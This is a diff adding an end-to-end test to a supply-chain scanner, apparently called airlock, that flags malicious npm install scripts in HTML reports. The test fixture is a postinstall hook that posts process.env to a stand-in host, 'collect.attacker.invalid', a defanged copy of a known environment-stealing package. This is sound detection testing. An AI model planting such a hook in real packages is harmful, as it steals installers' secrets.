@@ -7,8 +7,10 @@ when it can). The page is opened from a file:// URL as a user would open `-o rep
 from __future__ import annotations
 
 import http.server
+import json
 import threading
 from collections.abc import Iterator
+from datetime import UTC, datetime, timedelta
 from dataclasses import dataclass, field, replace
 from pathlib import Path
 
@@ -18,8 +20,11 @@ from playwright.sync_api import Browser, Dialog, Page, sync_playwright
 from airlock.model import PackageReport
 from airlock.report import HtmlFormat, ReportDocument
 from airlock.report.text import neutralize
+from tests.fakes.registry import FakeRegistry
+from tests.fakes.tarballs import build_package
 from tests.report.samples import allowed, blocked, failed, review
 from tests.report.test_html import HOSTILE, HOSTILE_ATTRIBUTE, check_document, hostile_report
+from tests.test_cli import run
 
 CHROMIUM = Path("/usr/bin/chromium")
 # On a closed network chromium hangs on its own start-up connections without these.
@@ -277,3 +282,90 @@ def test_hostile_strings_neither_execute_nor_inject(open_report: object, policy:
     assert report.visible_names() == [name]
     page.select_option("#filter-rule", f"rule-{HOSTILE_ATTRIBUTE}")
     assert report.visible_names() == [name]
+
+
+# A defanged env thief (the crossenv shape: postinstall posts process.env to a host that cannot resolve).
+THIEF = (
+    "const http = require('http');\n"
+    "const env = JSON.stringify(process.env);\n"
+    "const req = http.request({ host: 'collect.attacker.invalid', port: 80, path: '/', method: 'POST' });\n"
+    "req.write(env);\nreq.end();\n"
+)
+
+
+def test_airlock_check_html_end_to_end(
+    open_report: object,
+    fake_registry: FakeRegistry,
+    monkeypatch: pytest.MonkeyPatch,
+    capsys: pytest.CaptureFixture[str],
+    tmp_path: Path,
+) -> None:
+    """`airlock check --format html -o` on a lockfile whose second-level dependency steals the environment:
+    filtered to blocked, the page shows that package alone, with its finding, evidence and path."""
+    assert callable(open_report)
+    old = datetime.now(UTC) - timedelta(days=400)
+    monkeypatch.setenv("NPM_CONFIG_REGISTRY", fake_registry.url)
+    monkeypatch.chdir(tmp_path)
+    fake_registry.publish(
+        "wrappy",
+        "1.0.2",
+        build_package("wrappy", "1.0.2", {"setup.js": THIEF}, scripts={"postinstall": "node setup.js"}),
+        manifest={"scripts": {"postinstall": "node setup.js"}},
+        time=old,
+    )
+    fake_registry.publish(
+        "once",
+        "1.4.0",
+        build_package("once", "1.4.0", {"index.js": "require('wrappy')"}, dependencies={"wrappy": "1"}),
+        manifest={"dependencies": {"wrappy": "1"}},
+        time=old,
+    )
+    root = tmp_path / "app"
+    root.mkdir()
+    (root / "package.json").write_text(
+        json.dumps({"name": "app", "version": "1.0.0", "dependencies": {"once": "^1.4.0"}})
+    )
+
+    def entry(name: str, version: str, **extra: object) -> dict[str, object]:
+        dist = fake_registry.packument(name)["versions"][version]["dist"]
+        return {"version": version, "resolved": dist["tarball"], "integrity": dist["integrity"], **extra}
+
+    lock = {
+        "name": "app",
+        "version": "1.0.0",
+        "lockfileVersion": 3,
+        "requires": True,
+        "packages": {
+            "": {"name": "app", "version": "1.0.0", "dependencies": {"once": "^1.4.0"}},
+            "node_modules/once": entry("once", "1.4.0", dependencies={"wrappy": "1"}),
+            "node_modules/wrappy": entry("wrappy", "1.0.2", hasInstallScript=True),
+        },
+    }
+    (root / "package-lock.json").write_text(json.dumps(lock, indent=2))
+    target = tmp_path / "report.html"
+    code, out, _ = run(
+        ["check", "app", "--format", "html", "-o", str(target), "-j", "1"], monkeypatch, capsys
+    )
+    assert code == 1  # something was blocked
+    assert out == ""
+
+    report: Opened = open_report(target.read_text(encoding="utf-8"), "airlock-check.html")
+    assert report.page.locator("details.package .name").all_inner_texts() == ["wrappy@1.0.2", "once@1.4.0"]
+    report.uncheck_verdicts("review", "allow")
+    assert report.visible_names() == ["wrappy@1.0.2"]
+    card = report.page.locator("details.package:visible")
+    text = card.inner_text()
+    assert "credential-exfiltration" in text
+    assert "setup.js:2" in text
+    assert "JSON.stringify(process.env)" in text
+    assert "once>wrappy" in card.locator("ul.paths").inner_text()
+    assert "node setup.js" in text
+    row = report.page.locator("#matrix tbody tr").first
+    assert row.locator("a").inner_text() == "wrappy@1.0.2"
+    assert [c.get_attribute("data-group") for c in row.locator("td.has").all()] == [
+        "install",
+        "network",
+        "env",
+    ]
+    assert report.errors == []
+    assert report.requests == [report.url]
